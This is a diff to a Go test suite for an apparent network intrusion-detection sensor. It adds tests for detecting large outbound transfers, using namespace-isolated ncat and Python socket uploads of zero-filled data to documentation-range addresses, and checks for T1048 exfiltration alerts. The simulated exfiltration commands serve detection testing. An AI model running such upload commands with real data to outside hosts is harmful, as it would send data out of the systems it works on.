@@ -323,7 +323,7 @@ func TestARPSpoofing(t *testing.T) {
 
 // A 200 MB upload to an external host.
 func TestExfiltration(t *testing.T) {
-	netns.RequireTools(t, "ncat", "nsenter", "unshare")
+	netns.RequireTools(t, "ncat", "python3", "nsenter", "unshare")
 	topo := netns.New(t, 0)
 	const dst = "203.0.113.50"
 	if err := topo.AddInternetIP(dst); err != nil {
@@ -332,14 +332,46 @@ func TestExfiltration(t *testing.T) {
 	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
 	waitListenNoConnect(t)
 	s := startSensor(t, topo, "exfiltration", sensorOptions{})
-	cmd, start := hostStart(t, topo, 30*time.Second, "sh", "-c", "head -c 200M /dev/zero | ncat --send-only "+dst+" 443")
+	// 200 MB paced over ~3 s, so the connection is open across polls and its
+	// owner is observable (a faster burst is TestExfiltrationBurst).
+	upload := `import socket, time
+s = socket.create_connection(("` + dst + `", 443))
+chunk = b"\0" * (1 << 20)
+for i in range(200):
+    s.sendall(chunk)
+    time.sleep(0.015)
+s.close()`
+	cmd, start := hostStart(t, topo, 30*time.Second, "python3", "-c", upload)
+	e := s.expect(t, "exfiltration", "T1048", start, "200 MB via python3 to "+dst+":443, paced over ~3 s",
+		and(isTechnique("exfiltration", "T1048"), destIs(dst)))
+	wantField(t, e, "process.name", "python3")
 	if err := cmd.Wait(); err != nil {
 		t.Fatalf("upload failed: %v", err)
 	}
 	t.Logf("200 MB upload took %.2f s", time.Since(start).Seconds())
-	e := s.expect(t, "exfiltration", "T1048", start, "200 MB via ncat to "+dst+":443",
+}
+
+// A 200 MB burst that ends inside one poll is only seen through its
+// socket-destroy notification, which carries the byte counters but no
+// owner: the alert must still fire with the destination; the process is
+// named only when a poll saw the connection open.
+func TestExfiltrationBurst(t *testing.T) {
+	netns.RequireTools(t, "ncat", "nsenter", "unshare")
+	topo := netns.New(t, 0)
+	const dst = "203.0.113.51"
+	if err := topo.AddInternetIP(dst); err != nil {
+		t.Fatal(err)
+	}
+	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
+	waitListenNoConnect(t)
+	s := startSensor(t, topo, "exfiltration_burst", sensorOptions{})
+	cmd, start := hostStart(t, topo, 30*time.Second, "sh", "-c", "head -c 200M /dev/zero | ncat --send-only "+dst+" 443")
+	if err := cmd.Wait(); err != nil {
+		t.Fatalf("upload failed: %v", err)
+	}
+	t.Logf("200 MB burst took %.2f s", time.Since(start).Seconds())
+	s.expect(t, "exfiltration_burst", "T1048", start, "200 MB burst via ncat to "+dst+":443 (process named only if a poll saw it open)",
 		and(isTechnique("exfiltration", "T1048"), destIs(dst)))
-	wantField(t, e, "process.name", "ncat")
 }
 
 // At least 60 s of benign activity: an ssh session to one LAN host, DNS
